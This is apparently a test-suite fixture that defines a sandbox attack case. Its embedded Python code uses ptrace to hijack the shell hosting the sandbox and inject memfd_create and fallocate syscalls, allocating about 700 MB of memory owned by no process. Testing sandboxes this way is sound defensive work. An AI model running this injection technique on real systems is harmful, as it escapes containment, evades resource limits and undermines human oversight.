"""Takes over the shell that holds its sandbox, and makes 700 MB of memory in it that belong to no process"""

from tests.attacks.attack import Attack

ATTACK = Attack(
    "harm",
    q2="""
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
names = "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs"
class Registers(ctypes.Structure):
    _fields_ = [(name, ctypes.c_ulonglong) for name in names.split()]
processes = [int(name) for name in os.listdir("/proc") if name.isdigit()]
holder = next(process for process in processes if open(f"/proc/{process}/comm").read().strip() == "sh")
libc.ptrace(16, holder, None, None)  # PTRACE_ATTACH
os.waitpid(holder, 0x40000000)
old = Registers()
libc.ptrace(12, holder, None, ctypes.byref(old))
def call(number, *arguments):
    now = Registers.from_buffer_copy(old)
    now.rip, now.rax, now.orig_rax = old.rip - 2, number, 2**64 - 1
    for name, value in zip(("rdi", "rsi", "rdx", "r10", "r8", "r9"), arguments):
        setattr(now, name, value)
    libc.ptrace(13, holder, None, ctypes.byref(now))
    libc.ptrace(9, holder, None, None)
    os.waitpid(holder, 0x40000000)
    done = Registers()
    libc.ptrace(12, holder, None, ctypes.byref(done))
    return ctypes.c_longlong(done.rax).value
name = old.rsp - 4096
libc.ptrace(4, holder, ctypes.c_void_p(name), ctypes.c_void_p(0x78))
file = call(319, name, 0)  # memfd_create
call(285, file, 0, 0, 700_000_000)  # fallocate
time.sleep(0.5)
largest = os.stat(f"/proc/{holder}/fd/{file}").st_blocks * 512
""",
    q3="reason = 'B' if largest > 600_000_000 else 'not done'",
    proof="q3",
    is_bomb=True,
)
